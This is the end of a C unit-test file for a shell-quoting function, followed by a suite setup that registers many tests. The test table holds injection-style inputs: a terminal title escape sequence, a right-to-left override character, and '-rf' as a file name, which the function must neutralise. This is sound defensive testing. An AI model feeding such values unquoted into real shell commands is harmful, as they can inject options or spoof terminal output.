	{ "gr\xC3\xBC\xC3\x9F", "'gr\xC3\xBC\xC3\x9F'" }, /* as a terminal shows it */
	{ "a\nb\x1B]0;'\\", "$'a\\012b\\033]0;\\047\\134'" },
	{ "\xFF\xE2\x80\xAE", "$'\\377\\342\\200\\256'" }, /* turns the direction */
};

/* A shell takes it as that word, whatever it is. */
START_TEST(quotes_for_shells)
{
	char *text = shell_word(shell_words[_i].word), *path = shell_path("-rf"), *command;
	char found[64] = "";
	FILE *shell;

	ck_assert_str_eq(text, shell_words[_i].text);
	ck_assert_str_eq(path, "./-rf");
	command = mem_printf("exec bash -c \"$(cat <<'END'\nprintf %%s %s\nEND\n)\"", text);
	shell = popen(command, "re");
	ck_assert_ptr_nonnull(shell);
	ck_assert_uint_lt(fread(found, 1, sizeof(found) - 1, shell), sizeof(found));
	(void)pclose(shell);
	ck_assert_str_eq(found, shell_words[_i].word);
	free(command);
	free(path);
	free(text);
}
END_TEST

Suite *suite_base(void)
{
	Suite *suite = suite_create("base");
	TCase *tcase = tcase_create("base");

	tcase_add_loop_test(tcase, has_width, 0, COUNT(widths));
	tcase_add_loop_test(tcase, tells_times_apart, 0, COUNT(spans));
	tcase_add_loop_test(tcase, parses_sizes, 0, COUNT(sizes));
	tcase_add_loop_test(tcase, parses_durations, 0, COUNT(durations));
	tcase_add_test(tcase, parses_times);
	tcase_add_test(tcase, writes_figures);
	tcase_add_test(tcase, cuts_long_errors);
	tcase_add_test(tcase, repairs_text);
	tcase_add_test(tcase, reads_lines);
	tcase_add_test(tcase, bounds_lines);
	tcase_add_test(tcase, shortens_texts);
	tcase_add_test(tcase, writes_json);
	tcase_add_test(tcase, writes_all_of_a_text);
	tcase_add_test(tcase, histograms_values);
	tcase_add_loop_test(tcase, histograms_alike, 1, 200);
	tcase_add_loop_test(tcase, histograms_of_buckets, 0, 100);
	tcase_add_loop_test(tcase, parses_urls, 0, COUNT(urls));
	tcase_add_loop_test(tcase, refuses_urls, 0, COUNT(bad_urls));
	tcase_add_test(tcase, converts_clocks);
	tcase_add_loop_test(tcase, selects_first, 2, 60);
	tcase_add_test(tcase, finds_first);
	tcase_add_test(tcase, knows_what_is_begun);
	tcase_add_loop_test(tcase, is_plain, 0, COUNT(plains));
	tcase_add_test(tcase, hangs_up);
	tcase_add_test(tcase, accounts);
	tcase_add_test(tcase, memory_of_machine);
	tcase_add_loop_test(tcase, quotes_for_shells, 0, COUNT(shell_words));
	suite_add_tcase(suite, tcase);
	return suite;
}
